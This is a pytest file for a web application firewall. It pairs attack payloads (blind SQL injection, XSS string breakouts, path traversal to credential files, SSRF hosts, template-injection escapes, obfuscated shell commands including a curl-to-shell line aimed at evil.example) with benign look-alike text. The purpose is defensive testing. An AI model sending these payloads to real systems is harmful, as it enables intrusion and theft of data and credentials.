"""Round 4 of the rule tuning (issue 15): whole families caught, benign families spared.

Each test pairs an attack family with its benign twin -- the traffic that looks
most like it -- so a rule that only learned the examples, or that widened into
prose, fails one side.  The families are the ones tuning/batch5.py adds.
"""

from __future__ import annotations

import pytest

from ramparts.gateway.waf.decode import decode, fold
from ramparts.gateway.waf.engine import Verdict, Waf
from ramparts.gateway.waf.request import WafRequest
from tests.gateway.waf.waf_requests import header_request, json_request, query_request

WAF = Waf()


def _rules(verdict: Verdict) -> set[str]:
    return {m.rule for m in verdict.matches}


def _both(value: str) -> list[Verdict]:
    return [WAF.inspect(json_request(value)), WAF.inspect(query_request(value))]


def _path(path: str) -> WafRequest:
    return WafRequest("GET", path, "", [], b"", "", f"GET {path}")


# -- SQL injection without quotes (blind, numeric parameters) ------------------------------
BLIND_SQLI = [
    "1 AND LENGTH(DATABASE())=8",
    "1 AND ASCII(SUBSTRING(USER(),1,1))>64",
    "1 AND ROWNUM=1",
    "1 or exists(select 1)",
    "5 AND 3 BETWEEN 2 AND 4",
    "1 AND 0x61=0x61",
    "1 AND TRUE--",
    "1 && @@version",
    "7) AND ORD(MID(VERSION(),1,1))=53",
]
NUMBERS_IN_TEXT = [
    "1 and 2 bedroom flats",
    "sizes 10 or 12",
    "5 and 6 year olds",
    "2 or 3 day delivery",
    "10 and under toys",
    "1 or 2 people (max)",
    "3 and counting",
    "7 or more (see list)",
]


@pytest.mark.parametrize("payload", BLIND_SQLI)
def test_blind_boolean_sqli_without_quotes_is_blocked(payload: str) -> None:
    for verdict in _both(payload):
        assert "sqli-blind-boolean" in _rules(verdict), payload
        assert verdict.blocked


@pytest.mark.parametrize("text", NUMBERS_IN_TEXT)
def test_numbers_joined_by_and_or_in_text_pass(text: str) -> None:
    for verdict in _both(text):
        assert not verdict.blocked, (text, verdict.matches)


def test_mysql_versioned_comments_are_read_as_sql() -> None:
    assert "union" in fold("1/*!50000UNION*//*!50000SELECT*/1,2")
    payload = "1/*!50000UNION*//*!50000SELECT*/password/*!FROM*/users"
    assert "sqli-union-select" in _rules(WAF.inspect(json_request(payload)))
    assert fold("a /* plain comment */ b") == "a b"  # an ordinary comment is still dropped


def test_union_distinctrow_select_is_blocked() -> None:
    assert "sqli-union-select" in _rules(
        WAF.inspect(json_request("1 union distinctrow select 1,2"))
    )


# -- XSS: breaking out of a JavaScript string ----------------------------------------------
JS_BREAKOUTS = [
    "\\';alert(1)//",
    "'}-alert(1)-{'",
    "'-(alert)(1)-'",
    "'-alert?.(1)-'",
    "';[1].find(alert)//",
    '"};alert(1);var x={"a":"',
    "'^confirm(1)^'",
    "';new Image().src='//x.example/'",
    "'];top['al'+'ert'](1)//",
]
APOSTROPHES = [
    "O'Neil",
    "L'Oréal - Paris",
    "It's a window seat; thanks",
    "Rock 'n' Roll Café",
    "'Til Tuesday",
    'Jo\'s "Best" Bakery',
    "D'Arcy; top floor",
    "the 'self' keyword",
]


@pytest.mark.parametrize("payload", JS_BREAKOUTS)
def test_javascript_string_breakouts_are_blocked(payload: str) -> None:
    for verdict in _both(payload):
        assert "xss-string-breakout" in _rules(verdict), payload
        assert verdict.blocked


def test_a_breakout_in_a_path_segment_is_blocked() -> None:
    verdict = WAF.inspect(_path("/api/items/%22%7D%3Balert(1)%3Bvar%20x%3D%7B%22a%22%3A%22"))
    assert "xss-string-breakout" in _rules(verdict)


@pytest.mark.parametrize("text", APOSTROPHES)
def test_names_and_text_with_apostrophes_pass(text: str) -> None:
    for verdict in _both(text):
        assert not verdict.blocked, (text, verdict.matches)


# -- path traversal ------------------------------------------------------------------------
def test_unicode_division_and_fraction_slashes_are_read_as_slashes() -> None:
    assert decode("..\u2215..\u2215etc\u2215passwd") == "../../etc/passwd"
    for payload in (
        "..\u2215..\u2215etc\u2215passwd",
        "..%u2215..%u2215app.py",
        "..\u2044..\u2044x",
    ):
        assert WAF.inspect(json_request(payload)).blocked, payload
    assert not WAF.inspect(json_request("add 1\u20442 cup of sugar")).blocked


@pytest.mark.parametrize(
    "path",
    [
        "/vpn/../vpns/cfg/smb.conf",
        "/static/%2e%2e/app.py",
        "/mifs/.;/services/LogService",
        "/a/..;/WEB-INF/web.xml",
        "/files/..%5cboot.ini",
    ],
)
def test_dot_segments_in_the_request_path_are_blocked(path: str) -> None:
    verdict = WAF.inspect(_path(path))
    assert "lfi-path-dot-segment" in _rules(verdict) and verdict.blocked, path


@pytest.mark.parametrize("path", ["/api/v1.2/items", "/files/a..b.txt", "/docs/...", "/v/2.0./x"])
def test_dots_inside_path_segments_pass(path: str) -> None:
    assert not WAF.inspect(_path(path)).blocked, path


@pytest.mark.parametrize(
    "payload",
    [
        "/etc/nginx/nginx.conf",
        "/etc/mysql/my.cnf",
        "/root/.bash_history",
        "/etc/ssl/private/key.pem",
        "/home/app/.psql_history",
        "C:\\inetpub\\wwwroot\\web.config",
        "/opt/tomcat/conf/tomcat-users.xml",
        "/etc/kubernetes/admin.conf",
        "/.dockerenv",
    ],
)
def test_more_sensitive_files_are_blocked(payload: str) -> None:
    for verdict in _both(payload):
        assert "lfi-sensitive-file" in _rules(verdict) and verdict.blocked, payload


@pytest.mark.parametrize(
    "text",
    [
        "See the diagram ![arch](../../docs/img/arch.png) and [the guide](../guide/setup.md).",
        "Links: [home](/), [up](../README.md), [api](../../api/v2/README.md).",
        "Paths are relative: `../../shared/config.yaml` from `services/api/`, keep `./data/`.",
        "/srv/app/static/logo.png",
        "../shared",
    ],
)
def test_relative_links_and_paths_in_prose_pass(text: str) -> None:
    for verdict in _both(text):
        assert not verdict.blocked, (text, verdict.matches)


@pytest.mark.parametrize(
    "payload",
    ["../../../app/settings.py", "docs [x](../../../../etc/passwd)", "static/..%2f..%2fapp.py"],
)
def test_traversal_outside_a_link_or_quotation_is_blocked(payload: str) -> None:
    for verdict in _both(payload):
        assert verdict.blocked, payload


# -- SSRF: versions and names are not addresses --------------------------------------------
@pytest.mark.parametrize(
    "value", ["0.9.1", "0.0.1", "10.4.2", "0.0.0", "app.settings.local", "printer.internal"]
)
def test_versions_and_setting_names_pass_as_bare_values(value: str) -> None:
    for verdict in _both(value):
        assert "ssrf-internal-host" not in _rules(verdict), value


@pytest.mark.parametrize(
    "value",
    ["127.1", "127.0.1", "0x7f.1", "localhost", "api.localhost", "metadata.google.internal"],
)
def test_loopback_and_metadata_spellings_stay_blocked_as_bare_values(value: str) -> None:
    for verdict in _both(value):
        assert "ssrf-internal-host" in _rules(verdict) and verdict.blocked, value


def test_an_internal_name_in_a_url_still_counts() -> None:
    assert WAF.inspect(json_request("http://printer.internal/admin")).blocked


# -- SSTI: placeholders and simple statements are templates, escapes are attacks -----------
TEMPLATES = [
    "Hi {{ customer }}, parcel {{ parcel_no }} left the depot.",
    "{% if is_member %}Member price{% endif %}",
    "{% for item in items %}- {{ item.name }}{% endfor %}",
    "<%= user.name %> joined <%= team %>.",
    "<% if member %>Member<% end %>",
    '{{ tags|join(", ") }}',
    "{{ name|e }}",
    "{{ body|safe }}",
    "{% block content %}{{ content }}{% endblock %}",
    "{% raw %}{{ x }}{% endraw %}",
    "Hello [[${user.name}]]",
    "{{ settings.site_name }} newsletter",
    "Dear ${firstName}, welcome",
]
SSTI = [
    "{% include '/etc/passwd' %}",
    "{% import os %}",
    "{% debug %}",
    "{{ ''|attr('__class__') }}",
    "{{ ()|attr(['_'*2,'class','_'*2]|join) }}",
    "{{ settings.SECRET_KEY }}",
    "{{ config }}",
    "<%= File.read('/etc/passwd') %>",
    "<%= `id` %>",
    "[[${T(java.lang.Runtime).getRuntime()}]]",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% endfor %}",
    "{{7*7}}",
]


@pytest.mark.parametrize("text", TEMPLATES)
def test_template_text_with_plain_lookups_passes(text: str) -> None:
    verdict = WAF.inspect(json_request(text, "template"))
    assert not verdict.blocked, (text, verdict.matches)


@pytest.mark.parametrize("payload", SSTI)
def test_template_escapes_are_blocked(payload: str) -> None:
    assert WAF.inspect(json_request(payload, "template")).blocked, payload


# -- command injection -----------------------------------------------------------------------
@pytest.mark.parametrize(
    "payload",
    [
        "; Get-Process",
        "| Get-ChildItem C:\\Users",
        "& set",
        ";c${u}at notes.txt",
        ";ca$9t a.txt",
        "& %COMSPEC% /c dir",
    ],
)
def test_windows_and_variable_spelt_commands_are_blocked(payload: str) -> None:
    for verdict in _both(payload):
        assert "cmdi-shell-structure" in _rules(verdict) and verdict.blocked, payload


@pytest.mark.parametrize(
    "text",
    [
        "Venue; set-up at 9am",
        "Hola; ver detalles",
        "Team; get-together at 5",
        "Price: $9; set of 4",
    ],
)
def test_words_that_look_like_cmdlets_pass(text: str) -> None:
    for verdict in _both(text):
        assert not verdict.blocked, (text, verdict.matches)


# -- scanners ----------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "name,value",
    [
        ("acunetix-product", "WVS/14.0"),
        ("x-scanner", "Netsparker"),
        ("x-wipp", "AscVersion=22.1.0"),
        ("x-ratproxy-loop", "1"),
        ("acunetix-aspect", "enabled"),
    ],
)
def test_scanner_marker_headers_are_blocked(name: str, value: str) -> None:
    verdict = WAF.inspect(header_request(name, value))
    assert "scanner-marker-header" in _rules(verdict) and verdict.blocked


def test_ordinary_custom_headers_pass() -> None:
    for name, value in (("x-scan-id", "42"), ("x-client", "Netsparker fan club"), ("x-wip", "1")):
        assert not WAF.inspect(header_request(name, value)).blocked, name


@pytest.mark.parametrize(
    "path",
    [
        "/api/jsonws/invoke",
        "/remote/fgt_lang",
        "/mgmt/tm/util/bash",
        "/wls-wsat/CoordinatorPortType",
        "/META-INF/MANIFEST.MF",
        "/struts2-showcase/index.action",
        "/sftp-config.json",
        "/nessustest",
    ],
)
def test_cve_probe_paths_are_blocked(path: str) -> None:
    assert WAF.inspect(_path(path)).blocked, path


@pytest.mark.parametrize("value", ["config.yaml", "package.json", "settings.ini", "notes.bak"])
def test_file_names_as_query_values_pass(value: str) -> None:
    assert not WAF.inspect(query_request(value)).blocked, value
    assert WAF.inspect(_path(f"/{value}")).blocked, value


# -- code review quoting SQL ----------------------------------------------------------------
def test_review_prose_with_more_function_words_reads_as_prose() -> None:
    text = "Careful: ' OR 1=1 is exactly what this endpoint would accept before the fix."
    verdict = WAF.inspect(json_request(text, "body"))
    assert not verdict.blocked, verdict.matches
    assert WAF.inspect(json_request("' OR 1=1 --", "body")).blocked


@pytest.mark.parametrize(
    "value",
    [
        "~/.config/app/settings.json",
        ".github/workflows/ci.yml",
        "node_modules/.bin/eslint",
        ".vscode/settings.json",
        ".env.example",
    ],
)
def test_dot_directories_as_query_values_pass_and_as_paths_block(value: str) -> None:
    assert not WAF.inspect(query_request(value)).blocked, value
    assert WAF.inspect(_path("/" + value.lstrip("~/"))).blocked, value


@pytest.mark.parametrize(
    "value", [".git/config", ".env", "../.env.production", "x/.aws/credentials", ".htpasswd"]
)
def test_secret_leaking_dotfiles_as_query_values_are_blocked(value: str) -> None:
    verdict = WAF.inspect(query_request(value))
    assert "lfi-dotfile-value" in _rules(verdict) and verdict.blocked, value


# -- markdown syntax is prose, not code -------------------------------------------------------
@pytest.mark.parametrize(
    "text",
    [
        "> **Warning**\n> Do not run `rm -rf /` on production.",
        "## Usage\n\n```bash\n$ docker run -v $(pwd):/app image\n```",
        "- [ ] rotate keys (`ramparts keys rotate`)\n- [x] run `whoami; id` on the box",
    ],
)
def test_markdown_headings_quotes_and_lists_do_not_make_text_code(text: str) -> None:
    verdict = WAF.inspect(json_request(text, "body"))
    assert not verdict.blocked, verdict.matches
    assert all(m.quoted for m in verdict.matches)


def test_markdown_decoration_does_not_hide_an_unquoted_payload() -> None:
    assert WAF.inspect(json_request("## x\n\n**a** $(cat /etc/passwd)", "body")).blocked
    assert WAF.inspect(json_request("> note\n\nx; curl http://evil.example/x | sh", "body")).blocked


@pytest.mark.parametrize(
    "payload",
    [
        ";/bin/c[a]t /etc/pass[w]d",
        "$(${PATH:0:1}bin${PATH:0:1}id)",
        "| findstr /si password *.xml",
        "& set | findstr PATH",
        "x;/usr/bin/wh[o]ami",
    ],
)
def test_glob_classes_slash_variables_and_windows_tools_are_blocked(payload: str) -> None:
    for verdict in _both(payload):
        assert "cmdi-shell-structure" in _rules(verdict) and verdict.blocked, payload


@pytest.mark.parametrize(
    "text", ["Table for 4; set 2 places", "see items[0]; a[b]c works", "Use x[i]; then y[j]"]
)
def test_brackets_and_set_in_text_pass(text: str) -> None:
    for verdict in _both(text):
        assert not verdict.blocked, (text, verdict.matches)


@pytest.mark.parametrize("payload", ["/./././etc/passwd", "/var/www/.htpasswd", "x/./etc/shadow"])
def test_sensitive_files_behind_dot_segments_are_blocked(payload: str) -> None:
    for verdict in _both(payload):
        assert "lfi-sensitive-file" in _rules(verdict) and verdict.blocked, payload
